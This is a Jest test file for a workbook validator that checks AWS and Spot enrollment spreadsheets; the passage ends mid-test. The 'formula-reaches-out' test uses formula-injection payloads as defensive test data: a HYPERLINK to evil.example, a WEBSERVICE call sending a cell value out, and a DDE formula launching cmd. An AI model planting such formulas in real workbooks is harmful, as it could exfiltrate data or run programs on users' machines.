import { CATALOG, type Finding, type FindingCode } from '../../src/core/findings';
import type { Cell, WorkbookInput } from '../../src/core/port';
import { MAX_FINDINGS_PER_KIND, validateWorkbook } from '../../src/core/validate';
import { setCell, sheet, validSheets, validWorkbook, withSheet, workbook, type Raw } from './fixtures/workbooks';

const exercised = new Set<FindingCode>();

function findings(input: WorkbookInput): Finding[] {
  return validateWorkbook(input).findings;
}

/** Asserts that `code` is found exactly once, at `sheet`!`cell`, and returns it. */
function expectOne(input: WorkbookInput, code: FindingCode, sheetName: string, cellRef: string | null): Finding {
  exercised.add(code);
  const all = findings(input);
  const hits = all.filter((f) => f.code === code);
  expect(hits.map((f) => `${f.sheet}!${f.cell}`)).toEqual([`${sheetName}!${cellRef}`]);
  const hit = hits[0]!;
  expect(hit.severity).toBe(CATALOG[code].severity);
  return hit;
}

const none = (input: WorkbookInput, code: FindingCode): void => {
  expect(findings(input).filter((f) => f.code === code)).toEqual([]);
};

const num = (value: number, format?: string): Cell =>
  format === undefined ? { type: 'number', value } : { type: 'number', value, format };
const err = (value: string): Cell => ({ type: 'error', value });
const edit = (name: string, row: number, col: number, v: Raw): WorkbookInput =>
  withSheet(name, (rows) => setCell(rows, row, col, v));

describe('a valid workbook', () => {
  it('has no findings and yields the enrollment', () => {
    const result = validateWorkbook(validWorkbook());
    expect(result.findings).toEqual([]);
    expect(result.enrollment?.msp.managementAccountId).toBe('012345678901');
    expect(result.enrollment?.workflows.map((w) => [w.name, w.steps.length])).toEqual([
      ['Workflow 1', 4],
      ['Workflow 2', 3],
      ['Workflow 3', 1],
    ]);
  });

  it('passes without the optional Accounts and End Customers sheets', () => {
    const s = validSheets();
    delete s['Accounts'];
    delete s['End Customers'];
    const result = validateWorkbook(workbook(s));
    expect(result.findings).toEqual([]);
    expect(result.enrollment?.accounts).toBeNull();
    expect(result.enrollment?.endCustomers).toBeNull();
  });

  it('matches sheet names and headers ignoring case, spaces and column order, and keeps extra columns', () => {
    const s = validSheets();
    const accounts = s['Accounts']!.map((r) => [r[3]!, 'note', r[2]!, r[0]!, r[1]!]);
    accounts[0] = ['  subset   NAME ', 'My notes', 'aws account id', 'ACCOUNT NAME', 'AWS Account  Email'];
    const result = validateWorkbook(workbook({ ...s, accounts: accounts, Accounts: [] }));
    // `Accounts` (empty) and `accounts` both match; the first in workbook order wins, so build it alone:
    const only = { ...s };
    delete only['Accounts'];
    expect(validateWorkbook(workbook({ ...only, 'ACCOUNTS ': accounts })).findings).toEqual([]);
    expect(result).toBeDefined();
  });

  it('judges a formula cell by its value (the formula itself a warning: issue 16)', () => {
    const formula: Cell = { type: 'text', value: '111111111111', formula: '=TEXT(111111111111,"000000000000")' };
    const result = validateWorkbook(edit('Accounts', 2, 2, formula));
    expect(result.findings.map((f) => [f.code, f.cell])).toEqual([['formula-in-cell', 'C3']]);
    expect(result.enrollment?.accounts?.[1]?.accountId).toBe('111111111111');
  });
});

describe('sheet shape', () => {
  it('sheet-missing: a required sheet is absent; an optional one is not a finding', () => {
    const s = validSheets();
    delete s['Subset Workflows'];
    const f = expectOne(workbook(s), 'sheet-missing', 'Subset Workflows', null);
    expect(f.message).toContain('"Subset Name" and "Billing Workflow Name"');
    const t = validSheets();
    delete t['End Customers'];
    none(workbook(t), 'sheet-missing');
  });

  it('sheet-missing names a look-alike sheet', () => {
    const s = validSheets();
    const rows = s['Billing Workflows']!;
    delete s['Billing Workflows'];
    const f = expectOne(workbook({ ...s, 'Billing Workflow': rows }), 'sheet-missing', 'Billing Workflows', null);
    expect(f.message).toContain('the sheet "Billing Workflow" looks like it');
    none(workbook({ ...s, 'billing workflows': rows }), 'sheet-missing');
  });

  it('sheet-no-rows: headers and nothing else', () => {
    const s = validSheets();
    const f = expectOne(
      workbook({ ...s, 'End Customers': [s['End Customers']![0]!] }),
      'sheet-no-rows',
      'End Customers',
      null,
    );
    expect(f.message).toContain('one row per end customer');
  });

  it.each(['Subset Workflows', 'Billing Workflows'])(
    'sheet-rows-required: %s with headers only is an error, so there is no enrollment to package',
    (name) => {
      const s = validSheets();
      const r = validateWorkbook(workbook({ ...s, [name]: [s[name]![0]!] }));
      exercised.add('sheet-rows-required');
      const f = r.findings.find((x) => x.code === 'sheet-rows-required');
      expect(f).toMatchObject({ severity: 'error', sheet: name, cell: null });
      expect(f!.message).toContain(`The "${name}" sheet has headers but no rows`);
      expect(r.findings.some((x) => x.code === 'sheet-no-rows' && x.sheet === name)).toBe(false);
      expect(r.enrollment).toBeNull();
    },
  );

  it('column-missing: a header typo names the nearest header at its cell', () => {
    const f = expectOne(edit('Accounts', 0, 2, 'AWS Acount ID'), 'column-missing', 'Accounts', 'C1');
    expect(f.message).toBe(
      'The "Accounts" sheet has no "AWS Account ID" column; the nearest header is "AWS Acount ID" here. Rename it to "AWS Account ID" if that is the column meant.',
    );
  });

  it('column-missing: with no look-alike header the finding is about the sheet', () => {
    const input = withSheet('Subset Workflows', (rows) => rows.map((r) => [r[0]!]));
    expectOne(input, 'column-missing', 'Subset Workflows', null);
    none(edit('Accounts', 0, 2, 'aws account ID'), 'column-missing');
  });

  it('column-duplicate: the second copy of a header', () => {
    const f = expectOne(edit('Subset Workflows', 0, 2, 'Subset name'), 'column-duplicate', 'Subset Workflows', 'C1');
    expect(f.message).toContain('first at A1');
  });

  it('header-not-in-row-1: a title row above the headers', () => {
    const input = withSheet('Accounts', (rows) => [['Our AWS accounts'], ...rows]);
    expectOne(input, 'header-not-in-row-1', 'Accounts', 'A2');
    // the data below the real header row is still judged, at its real cells
    const bad = withSheet('Accounts', (rows) => [['Our AWS accounts'], ...setCell(rows, 1, 2, 'nope')]);
    expectOne(bad, 'account-id-invalid', 'Accounts', 'C3');
  });

  it('merged-cells: a warning at a merge over a checked column; its value counts for every row it covers', () => {
    const s = validSheets();
    const accounts = s['Accounts']!.map((r) => [...r]);
    accounts[2]![3] = 'Subset 2'; // D3:D4 merged, holding Subset 2 for both rows
    accounts[3]![3] = null;
    const input: WorkbookInput = {
      sheets: [...workbook(s).sheets.filter((x) => x.name !== 'Accounts'), sheet('Accounts', accounts, ['D3:D4'])],
    };
    const f = expectOne(input, 'merged-cells', 'Accounts', 'D3');
    expect(f.severity).toBe('warning');
    expect(f.message).toContain('D3:D4');
    expect(f.message).toContain('Unmerge them and fill down');
    none(input, 'value-required');
    // Subset 1 then has one account fewer, Subset 2 the covered row: no other finding.
    expect(findings(input).map((x) => x.code)).toEqual(['merged-cells']);
    const extra: WorkbookInput = {
      sheets: [
        ...workbook(s).sheets.filter((x) => x.name !== 'Accounts'),
        sheet('Accounts', s['Accounts']!, ['F2:F5']),
      ],
    };
    expect(findings(extra)).toEqual([]);
  });

  it('blank-row: blank rows in the middle, one finding per run; trailing blank rows are fine', () => {
    const input = withSheet('Accounts', (rows) => [...rows.slice(0, 3), [], [null, ''], ...rows.slice(3)]);
    const f = expectOne(input, 'blank-row', 'Accounts', 'A4');
    expect(f.message).toContain('Rows 4 to 5');
    none(
      withSheet('Accounts', (rows) => [...rows, [], []]),
      'blank-row',
    );
    // a row with only the user's own notes beyond the contract columns is not "blank", and not data
    expect(
      findings(
        withSheet('Accounts', (rows) => [...rows.slice(0, 3), [null, null, null, null, 'note'], ...rows.slice(3)]),
      ),
    ).toEqual([]);
  });
});

describe('cell values', () => {
  it('value-required: an empty required cell', () => {
    const f = expectOne(edit('Accounts', 2, 3, null), 'value-required', 'Accounts', 'D3');
    expect(f.message).toBe('"Subset Name" is empty. Enter a subset name from the Subset Workflows sheet.');
    none(edit('Accounts', 2, 0, null), 'value-required'); // Account Name is optional
  });

  it('cell-error-value: an Excel error value is a finding, never a crash', () => {
    const f = expectOne(edit('Accounts', 2, 3, err('#N/A')), 'cell-error-value', 'Accounts', 'D3');
    expect(f.message).toContain('#N/A');
    expectOne(
      edit('Enrollment', 3, 1, { type: 'error', value: '#REF!', formula: '=Sheet9!A1' }),
      'cell-error-value',
      'Enrollment',
      'B4',
    );
  });

  it('cell-error-value-unchecked: an error value in Details or a user column is a warning', () => {
    const f = expectOne(
      edit('Billing Workflows', 2, 3, err('#NAME?')),
      'cell-error-value-unchecked',
      'Billing Workflows',
      'D3',
    );
    expect(f.message).toContain('"Details"');
    const g = expectOne(
      withSheet('Accounts', (rows) => setCell(setCell(rows, 0, 5, 'Notes'), 3, 5, err('#DIV/0!'))),
      'cell-error-value-unchecked',
      'Accounts',
      'F4',
    );
    expect(g.message).toContain('"Notes"');
    expect(g.message).toContain('#DIV/0!');
    // without a header, the column is named by its letter
    const h = findings(withSheet('Accounts', (rows) => setCell(rows, 3, 6, err('#N/A'))));
    expect(h.map((x) => [x.code, x.cell, x.severity])).toEqual([['cell-error-value-unchecked', 'G4', 'warning']]);
    expect(h[0]!.message).toContain('column G');
  });

  it('formula-no-result: a formula saved without its result, in a checked column, is an error at the cell', () => {
    const f = expectOne(
      edit('Subset Workflows', 2, 1, { type: 'empty', formula: '=VLOOKUP(A3,Lookup!A:B,2,FALSE)' }),
      'formula-no-result',
      'Subset Workflows',
      'B3',
    );
    expect(f.message).toContain('=VLOOKUP(A3,Lookup!A:B,2,FALSE)');
    expect(f.message).toContain('Open and save the workbook in Excel');
    // never a guess: not "empty", not a workflow name
    none(edit('Subset Workflows', 2, 1, { type: 'empty', formula: '=X1' }), 'value-required');
    // in the Enrollment's Value column too, and not also "empty"
    const input = edit('Enrollment', 1, 1, { type: 'empty', formula: '=Other!A1' });
    expectOne(input, 'formula-no-result', 'Enrollment', 'B2');
    none(input, 'value-required');
    // in Details, which nobody checks: no finding
    expect(findings(edit('Billing Workflows', 2, 3, { type: 'empty', formula: '=A1' }))).toEqual([]);
  });

  it('account-id-leading-zeros-lost: says what the ID probably is and offers the fix', () => {
    const f = expectOne(edit('Accounts', 3, 2, num(1111111112)), 'account-id-leading-zeros-lost', 'Accounts', 'C4');
    expect(f.message).toContain('probably 001111111112');
    expect(f.fix).toEqual({ value: '001111111112' });
  });

  it('account-id-scientific-notation: a 12-digit number in General format, and text that lost its digits', () => {
    const f = expectOne(edit('Accounts', 2, 2, num(111111111111)), 'account-id-scientific-notation', 'Accounts', 'C3');
    expect(f.message).toContain('1.11111E+11');
    expect(f.fix).toEqual({ value: '111111111111' });
    const g = expectOne(edit('Accounts', 2, 2, '1.11111E+11'), 'account-id-scientific-notation', 'Accounts', 'C3');
    expect(g.message).toContain('digits are lost');
    expect(g.fix).toBeUndefined();
  });

  it('account-id-stored-as-number: a number whose format pads it to 12 digits is a warning only', () => {
    const f = expectOne(
      edit('Accounts', 3, 2, num(1111111112, '000000000000')),
      'account-id-stored-as-number',
      'Accounts',
      'C4',
    );
    expect(f.severity).toBe('warning');
    expect(f.fix).toEqual({ value: '001111111112' });
    expect(
      validateWorkbook(edit('Accounts', 3, 2, num(1111111112, '000000000000'))).findings.every(
        (x) => x.severity === 'warning',
      ),
    ).toBe(true);
  });

  it('account-id-separators: spaces or dashes inside', () => {
    const f = expectOne(edit('Accounts', 2, 2, '1111-1111-1111'), 'account-id-separators', 'Accounts', 'C3');
    expect(f.fix).toEqual({ value: '111111111111' });
    expectOne(edit('Accounts', 2, 2, '1111 1111 1111'), 'account-id-separators', 'Accounts', 'C3');
    none(edit('Accounts', 2, 2, '  111111111111\u00a0'), 'account-id-separators'); // surrounding spaces are trimmed
  });

  it('account-id-invalid: placeholders, short text IDs, booleans', () => {
    const f = expectOne(edit('Accounts', 2, 2, '<accountID>'), 'account-id-invalid', 'Accounts', 'C3');
    expect(f.message).toContain('12-digit');
    const g = expectOne(edit('Accounts', 2, 2, '11111111111'), 'account-id-invalid', 'Accounts', 'C3');
    expect(g.message).toContain('probably 011111111111');
    expectOne(edit('Accounts', 2, 2, true), 'account-id-invalid', 'Accounts', 'C3');
    expectOne(edit('Enrollment', 3, 1, '1234567890123'), 'account-id-invalid', 'Enrollment', 'B4');
  });

  it('spot-org-id-invalid: the seed picture\'s "org id 1"', () => {
    const f = expectOne(edit('End Customers', 1, 1, 'org id 1'), 'spot-org-id-invalid', 'End Customers', 'B2');
    expect(f.message).toContain('My Organization');
  });

  it('spot-org-id-stored-as-number and spot-org-id-scientific-notation', () => {
    expectOne(
      edit('End Customers', 1, 1, num(606000000011, '0')),
      'spot-org-id-stored-as-number',
      'End Customers',
      'B2',
    );
    expectOne(edit('End Customers', 1, 1, num(606000000011)), 'spot-org-id-scientific-notation', 'End Customers', 'B2');
    expectOne(edit('Enrollment', 2, 1, '6.06E+11'), 'spot-org-id-scientific-notation', 'Enrollment', 'B3');
  });

  it('spot-org-id-separators', () => {
    const f = expectOne(
      edit('End Customers', 1, 1, '606-000-000-011'),
      'spot-org-id-separators',
      'End Customers',
      'B2',
    );
    expect(f.fix).toEqual({ value: '606000000011' });
  });

  it('spot-org-id-prefix: 12 digits not starting with 606 is a warning', () => {
    const f = expectOne(edit('End Customers', 1, 1, '123456789012'), 'spot-org-id-prefix', 'End Customers', 'B2');
    expect(f.severity).toBe('warning');
  });

  it('email-placeholder: the seed picture\'s "email1"', () => {
    const f = expectOne(edit('End Customers', 1, 0, 'email1'), 'email-placeholder', 'End Customers', 'A2');
    expect(f.message).toContain('placeholder');
    expectOne(edit('Enrollment', 4, 1, '<email>'), 'email-placeholder', 'Enrollment', 'B5');
  });

  it('email-invalid', () => {
    expectOne(edit('Accounts', 2, 1, 'aws-prod at contoso'), 'email-invalid', 'Accounts', 'B3');
    expectOne(edit('Enrollment', 4, 1, 'finance@acme'), 'email-invalid', 'Enrollment', 'B5');
    expectOne(edit('Enrollment', 4, 1, 12), 'email-invalid', 'Enrollment', 'B5');
    none(edit('Accounts', 2, 1, null), 'email-invalid'); // the account e-mail is optional
  });

  it('formula-reaches-out: the issue’s hyperlink, web and DDE payloads in contract cells are errors, at their cells', () => {
    const withFormula = (value: string, formula: string): Cell => ({ type: 'text', value, formula });
    const hyperlink = expectOne(
      edit(
        'Enrollment',
        1,
        1,
        withFormula('Acme Cloud Partners', '=HYPERLINK("http://evil.example/x","Acme Cloud Partners")'),
      ),
      'formula-reaches-out',
      'Enrollment',
      'B2',
    );
    expect(hyperlink.message).toBe(
      '"Value" holds a formula that is a hyperlink (HYPERLINK). Spot\'s staff open this workbook in Excel, so no such formula is accepted in it: replace the formula by its value (copy the cell, then Paste Special > Values) or type the value in.',
    );
    const web = expectOne(
      edit(
        'Subset Workflows',
        1,
        0,
        withFormula('Subset 1', '=IF(WEBSERVICE("https://x.example/?"&A1)="","Subset 1","Subset 1")'),
      ),
      'formula-reaches-out',
      'Subset Workflows',
      'A2',
    );
    expect(web.message).toContain('fetches data from the web (WEBSERVICE)');
    const dde = expectOne(
      edit('Accounts', 1, 0, { type: 'number', value: 0, formula: "=cmd|' /C calc'!A0" }),
      'formula-reaches-out',
      'Accounts',
      'A2',
    );
    expect(dde.message).toContain('starts another program through DDE (|)');
    // Judged by value as well: the name stays (no cascade into Accounts), the ID is still checked.
    none(edit('Subset Workflows', 1, 0, withFormula('Subset 1', '=HYPERLINK("x","Subset 1")')), 'subset-unknown');
    expectOne(
      edit('Accounts', 1, 2, { type: 'text', value: '12345', formula: '=HYPERLINK("http://x","12345")' }),
      'account-id-invalid',
      'Accounts',
      'C2',
    );
    // A formula with an empty result is still reported.
    expectOne(
      edit('Accounts', 1, 0, { type: 'text', value: '', formula: '=HYPERLINK("http://x","")' }),
      'formula-reaches-out',
      'Accounts',
      'A2',
    );
    // Outside the contract's columns (the user's own column F): not the contract's business.
    none(edit('Accounts', 1, 5, withFormula('x', '=HYPERLINK("http://x","x")')), 'formula-reaches-out');
  });

  it('formula-in-cell: any other formula is a warning, with its value; the value is judged as typed', () => {
    const f = expectOne(
      edit('Enrollment', 3, 1, { type: 'text', value: '012345678901', formula: '=TEXT(12345678901,"000000000000")' }),
      'formula-in-cell',
      'Enrollment',
      'B4',
    );
    expect(f.severity).toBe('warning');
    expect(f.message).toBe(
      '"Value" is computed by the formula =TEXT(12345678901,"000000000000"); it is judged by its value, "012345678901". Replace the formula by its value (Paste Special > Values) so that the value cannot change after you submit.',
    );
    expect(
      validateWorkbook(edit('Enrollment', 3, 1, { type: 'text', value: '012345678901', formula: '=A1' })).enrollment,
    ).not.toBeNull();
    expectOne(
      edit('Enrollment', 3, 1, { type: 'number', value: 12345, formula: '=12345' }),
      'account-id-leading-zeros-lost',
      'Enrollment',
      'B4',
    );
    const e = expectOne(
      edit('Accounts', 1, 2, { type: 'error', value: '#REF!', formula: '=#REF!' }),
      'formula-in-cell',
      'Accounts',
      'C2',
    );
    expect(e.message).toContain('its value, #REF!');
  });

  it('email-too-long: more than 254 characters, even of a valid shape, with the length named', () => {
    const long = `${'a'.repeat(64)}@${'b'.repeat(186)}.com`; // 255 characters
    const f = expectOne(edit('Enrollment', 4, 1, long), 'email-too-long', 'Enrollment', 'B5');
    expect(f.message).toContain('255 characters');
    none(edit('Enrollment', 4, 1, long.slice(1)), 'email-too-long'); // 254: an address
    none(edit('Enrollment', 4, 1, long.slice(1)), 'email-invalid');
  });
});

describe('Enrollment', () => {
  it('field-missing: a required field has no row', () => {
    const input = withSheet('Enrollment', (rows) => rows.filter((r) => r[0] !== 'Contact Email'));
    const f = expectOne(input, 'field-missing', 'Enrollment', null);
    expect(f.message).toContain('"Contact Email"');
    none(
      withSheet('Enrollment', (rows) => rows.filter((r) => r[0] !== 'Account Rep Email')),
      'field-missing',
    );
  });

  it('field-missing is not raised for a present row with an empty value: that is value-required', () => {
    const f = expectOne(edit('Enrollment', 1, 1, null), 'value-required', 'Enrollment', 'B2');
    expect(f.message).toContain('"MSP Name" is empty');
    none(edit('Enrollment', 1, 1, null), 'field-missing');
  });

  it('field-duplicate', () => {
    const input = withSheet('Enrollment', (rows) => [...rows, ['msp name', 'Other']]);
    expectOne(input, 'field-duplicate', 'Enrollment', 'A7');
  });

  it('field-unknown: suggests the nearest field; labels match ignoring case and spaces', () => {
    const f = expectOne(edit('Enrollment', 2, 0, 'MSP Org ID'), 'field-unknown', 'Enrollment', 'A3');
    expect(f.message).toContain('Did you mean "MSP Spot Org ID"?');
    none(edit('Enrollment', 2, 0, 'msp spot org id'), 'field-unknown');
  });
});

describe('Accounts', () => {
  it('account-duplicate: an account in two rows', () => {
    const f = expectOne(edit('Accounts', 4, 2, '111111111111'), 'account-duplicate', 'Accounts', 'C5');
    expect(f.message).toContain('first at C3');
  });

  it('subset-unknown: the subset is not in Subset Workflows', () => {
    expectOne(edit('Accounts', 2, 3, 'Subset 9'), 'subset-unknown', 'Accounts', 'D3');
    none(edit('Accounts', 2, 3, ' subset   1 '), 'subset-unknown');
  });
});

describe('Subset Workflows', () => {
  it('subset-duplicate: names differing in case or spaces', () => {
    const input = withSheet('Subset Workflows', (rows) => [...rows, ['  SUBSET  2', 'Workflow 1']]);
    const f = expectOne(input, 'subset-duplicate', 'Subset Workflows', 'A7');
    expect(f.message).toContain('first at A3');
  });

  it('workflow-unknown', () => {
    expectOne(edit('Subset Workflows', 5, 1, 'Workflow 7'), 'workflow-unknown', 'Subset Workflows', 'B6');
    none(edit('Subset Workflows', 5, 1, 'workflow 3'), 'workflow-unknown');
  });

  it('subset-without-accounts is a warning, and only when there is an Accounts sheet', () => {
    const input = withSheet('Subset Workflows', (rows) => [...rows, ['Subset 6', 'Workflow 3']]);
    expectOne(input, 'subset-without-accounts', 'Subset Workflows', 'A7');
    const s = validSheets();
    delete s['Accounts'];
    none(
      workbook({ ...s, 'Subset Workflows': [...s['Subset Workflows']!, ['Subset 6', 'Workflow 3']] }),
      'subset-without-accounts',
    );
  });
});

describe('End Customers', () => {
  it('end-customer-duplicate-subset', () => {
    const input = withSheet('End Customers', (rows) => [
      ...rows,
      ['it@contoso.example', '606000000013', 'subset 1', 'Workflow 1'],
    ]);
    expectOne(input, 'end-customer-duplicate-subset', 'End Customers', 'C4');
  });

  it('end-customer-workflow-mismatch', () => {
    const f = expectOne(
      edit('End Customers', 1, 3, 'Workflow 2'),
      'end-customer-workflow-mismatch',
      'End Customers',
      'D2',
    );
    expect(f.message).toContain('uses billing workflow "Workflow 1"');
  });

  it("end-customer-workflow-mismatch offers the subset's workflow as the fix", () => {
    const f = expectOne(
      edit('End Customers', 1, 3, 'Workflow 2'),
      'end-customer-workflow-mismatch',
      'End Customers',
      'D2',
    );
    expect(f.fix).toEqual({ value: 'Workflow 1' });
  });

  it("value-required on End Customers' workflow offers the subset's workflow; no fix when the subset is unknown", () => {
    const f = expectOne(edit('End Customers', 2, 3, null), 'value-required', 'End Customers', 'D3');
    expect(f.fix).toEqual({ value: 'Workflow 2' });
    const unknown = withSheet('End Customers', (rows) => setCell(setCell(rows, 2, 3, null), 2, 2, 'Subset 42'));
    expect(findings(unknown).find((x) => x.code === 'value-required')).not.toHaveProperty('fix');
  });

  it('name-spelling: a subset spelled otherwise than in Subset Workflows warns there, and the package uses one spelling', () => {
    const s = validSheets();
    const accounts = s['Accounts']!.map((r) => [...r]);
    setCell(accounts, 2, 3, 'subset  1');
    const customers = s['End Customers']!.map((r) => [...r]);
    setCell(customers, 2, 2, 'SUBSET 3');
    setCell(customers, 1, 3, 'workflow 1');
    const subsets = s['Subset Workflows']!.map((r) => [...r]);
    setCell(subsets, 3, 1, ' Workflow  2 ');
    const input = workbook({ ...s, Accounts: accounts, 'End Customers': customers, 'Subset Workflows': subsets });
    exercised.add('name-spelling');
    const r = validateWorkbook(input);
    const hits = r.findings.filter((f) => f.code === 'name-spelling');
    expect(
      hits.map((f) => [`${f.sheet}!${f.cell}`, f.severity, f.fix && 'value' in f.fix ? f.fix.value : undefined]),
    ).toEqual([
      ['Accounts!D3', 'warning', 'Subset 1'],
      ['Subset Workflows!B4', 'warning', 'Workflow 2'],
      ['End Customers!D2', 'warning', 'Workflow 1'],
      ['End Customers!C3', 'warning', 'Subset 3'],
    ]);
    expect(hits[0]!.message).toBe(
      '"subset  1" is the subset "Subset 1" of the Subset Workflows sheet spelled differently; the package uses "Subset 1". Enter "Subset 1" here so that every sheet spells it the same.',
    );
    expect(r.findings.filter((f) => f.severity === 'error')).toEqual([]);
    const e = r.enrollment!;
    expect(e.accounts!.map((a) => a.subset)).toEqual(
      validSheets()
        ['Accounts']!.slice(1)
        .map((row) => row[3]),
    );
    expect(e.subsets.map((x) => x.workflow)).toEqual([
      'Workflow 1',
      'Workflow 1',
      'Workflow 2',
      'Workflow 2',
      'Workflow 3',
    ]);
    expect(e.endCustomers!.map((c) => [c.subset, c.workflow])).toEqual([
      ['Subset 1', 'Workflow 1'],
      ['Subset 3', 'Workflow 2'],
    ]);
  });

  it('e-mail messages name the column as its header spells it, not lower-cased', () => {
    const f = expectOne(edit('End Customers', 1, 0, 'admin at contoso'), 'email-invalid', 'End Customers', 'A2');
    expect(f.message).toBe(
      '"admin at contoso" is not an e-mail address. Enter the Spot Console Email as name@domain.com.',
    );
    const p = expectOne(edit('End Customers', 1, 0, 'email1'), 'email-placeholder', 'End Customers', 'A2');
    expect(p.message).toContain('Replace it with the real Spot Console Email.');
  });

  it('subset-unknown on End Customers', () => {
    expectOne(edit('End Customers', 1, 2, 'Subset 42'), 'subset-unknown', 'End Customers', 'C2');
  });

  it("end-customer-org-is-msp: the MSP's own org", () => {
    expectOne(edit('End Customers', 1, 1, '606000000001'), 'end-customer-org-is-msp', 'End Customers', 'B2');
  });

  it('end-customer-org-duplicate is a warning', () => {
    expectOne(edit('End Customers', 2, 1, '606000000011'), 'end-customer-org-duplicate', 'End Customers', 'B3');
  });
});

describe('Billing Workflows', () => {
  const BW = 'Billing Workflows';
  // rows: 1 header; 2-5 Workflow 1; 6-8 Workflow 2; 9 Workflow 3
  it('step-invalid', () => {
    expectOne(edit(BW, 2, 1, 'two'), 'step-invalid', BW, 'B3');
    expectOne(edit(BW, 2, 1, 1.5), 'step-invalid', BW, 'B3');
    none(edit(BW, 2, 1, '2'), 'step-invalid');
  });

  it('step-sequence: gaps and repeats, once per workflow', () => {
    const f = expectOne(edit(BW, 4, 1, 5), 'step-sequence', BW, 'B5');
    expect(f.message).toBe('The steps of workflow "Workflow 1" are numbered 1, 2, 3, 5; number them 1, 2, 3, 4.');
    expectOne(edit(BW, 2, 1, 1), 'step-sequence', BW, 'B3');
    // rows in any order are fine as long as the numbers are 1..n
    none(
      withSheet(BW, (rows) => [rows[0]!, rows[4]!, rows[3]!, rows[2]!, rows[1]!, ...rows.slice(5)]),
      'step-sequence',
    );
  });

  it('rule-unknown suggests the nearest rule; case does not matter', () => {
    const f = expectOne(edit(BW, 4, 2, 'uplfit'), 'rule-unknown', BW, 'C5');
    expect(f.message).toContain('did you mean "uplift"?');
    none(edit(BW, 4, 2, 'Uplift'), 'rule-unknown');
  });

  it('parameters-not-json', () => {
    const f = expectOne(edit(BW, 4, 4, 'percent: 3'), 'parameters-not-json', BW, 'E5');
    expect(f.message).toContain('such as {"percent"');
    none(edit(BW, 4, 4, '{\u201cpercent\u201d: 3}'), 'parameters-not-json'); // autocorrected quotes are read
  });

  it('parameters-invalid: do not fit the rule', () => {
    const f = expectOne(edit(BW, 4, 4, '{"percent": -3}'), 'parameters-invalid', BW, 'E5');
    expect(f.message).toContain('percent');
    expectOne(edit(BW, 4, 4, '[3]'), 'parameters-invalid', BW, 'E5');
    expectOne(edit(BW, 4, 4, null), 'parameters-invalid', BW, 'E5'); // uplift needs a percent
    none(edit(BW, 8, 4, null), 'parameters-invalid'); // no-billing-rules needs none
  });

  it('rule-must-be-alone', () => {
    const input = withSheet(BW, (rows) => [...rows, ['Workflow 3', 2, 'remove-taxes', '', '{}']]);
    expectOne(input, 'rule-must-be-alone', BW, 'C9');
  });

  it('rules-exclusive: retain-discounts beside a replace rule', () => {
    const input = withSheet(BW, (rows) =>
      setCell(
        setCell(rows, 4, 2, 'retain-discounts'),
        4,
        4,
        '{"commitments":["ri"],"subsets":["Subset 1"],"accounts":[]}',
      ),
    );
    const hits = findings(input).filter((f) => f.code === 'rules-exclusive');
    exercised.add('rules-exclusive');
    expect(hits.map((f) => f.cell)).toEqual(['C5', 'C5']);
    expect(hits[0]!.message).toContain('replace-ri-discount (at C2)');
    expect(hits.every((f) => f.severity === 'error')).toBe(true);
  });

  it('percent-rule-not-last is a warning at the percent rule', () => {
    // two percent rules in a row, both last, are fine
    const input = withSheet(BW, (rows) => [...rows, ['Workflow 1', 5, 'discount', '', '{"percent":1}']]);
    const swapped = withSheet(BW, (rows) => {
      const out = rows.map((r) => [...r]);
      out[3] = ['Workflow 1', 3, 'uplift', '', '{"percent":3}'];
      out[4] = ['Workflow 1', 4, 'remove-credits', '', '{"programs":["edp"],"refunds":false}'];
      return out;
    });
    expectOne(swapped, 'percent-rule-not-last', BW, 'C4');
    none(input, 'percent-rule-not-last');
  });

  it('workflow-unused', () => {
    const input = withSheet(BW, (rows) => [...rows, ['Spare', 1, 'remove-taxes', '', '{}']]);
    expectOne(input, 'workflow-unused', BW, 'A10');
  });

  it('rule-subset-unknown: retain-discounts names a subset that does not exist', () => {
    const input = withSheet(BW, (rows) =>
      setCell(
        setCell(rows, 8, 2, 'retain-discounts'),
        8,
        4,
        '{"commitments":["sp"],"subsets":["Subset 99"],"accounts":[]}',
      ),
    );
    expectOne(input, 'rule-subset-unknown', BW, 'E9');
  });

  it('name-spelling: retain-discounts subsets spelled otherwise warn at the Parameters cell; the package uses the Subset Workflows spelling', () => {
    // Row 9 becomes retain-discounts on "subset  1" and "SUBSET 3"; Subset Workflows spells "Subset 1", "Subset 3".
    const input = withSheet(BW, (rows) =>
      setCell(
        setCell(rows, 8, 2, 'retain-discounts'),
        8,
        4,
        '{"commitments":["sp"],"subsets":["subset  1","SUBSET 3"],"accounts":[]}',
      ),
    );
    const r = validateWorkbook(input);
    expect(r.findings.filter((f) => f.code === 'rule-subset-unknown')).toEqual([]);
    const hits = r.findings.filter((f) => f.code === 'name-spelling');
    const fix = { value: '{"commitments":["sp"],"subsets":["Subset 1","Subset 3"],"accounts":[]}' };
    expect(hits.map((f) => [`${f.sheet}!${f.cell}`, f.severity, f.fix])).toEqual([
      [`${BW}!E9`, 'warning', fix],
      [`${BW}!E9`, 'warning', fix],
    ]);
    expect(hits[0]!.message).toBe(
      '"subset  1" is the subset "Subset 1" of the Subset Workflows sheet spelled differently; the package uses "Subset 1". Write "Subset 1" in these parameters so that every sheet spells it the same.',
    );
    expect(r.findings.filter((f) => f.severity === 'error')).toEqual([]);
    const step = r.enrollment!.workflows.flatMap((w) => w.steps).find((s) => s.rule === 'retain-discounts');
    expect(step?.parameters).toEqual({ commitments: ['sp'], subsets: ['Subset 1', 'Subset 3'], accounts: [] });
    // Spelled as Subset Workflows spells it: no warning, nothing changed.
    const right = withSheet(BW, (rows) =>
      setCell(
        setCell(rows, 8, 2, 'retain-discounts'),
        8,
        4,
        '{"commitments":["sp"],"subsets":["Subset 1"],"accounts":[]}',
      ),
    );
    none(right, 'name-spelling');
  });

  it('rule-account-unknown: a purchaser that is not in Accounts nor the management account', () => {
    expectOne(edit(BW, 1, 4, '{"purchasedBy":["999999999999"]}'), 'rule-account-unknown', BW, 'E2');
    none(edit(BW, 1, 4, '{"purchasedBy":["012345678901"]}'), 'rule-account-unknown');
  });
});

describe('findings', () => {
  it('are sorted by sheet in contract order, then by row and column', () => {
    const s = validSheets();
    s['End Customers'] = setCell(
      s['End Customers']!.map((r) => [...r]),
      1,
      0,
      'email1',
    );
    s['Accounts'] = setCell(
      setCell(
        s['Accounts']!.map((r) => [...r]),
        3,
        2,
        'x',
      ),
      2,
      1,
      'nope',
    );
    const list = findings(workbook(s)).map((f) => `${f.sheet}!${f.cell}`);
    expect(list).toEqual(['Accounts!B3', 'Accounts!C4', 'End Customers!A2']);
  });

  it('no enrollment while errors remain', () => {
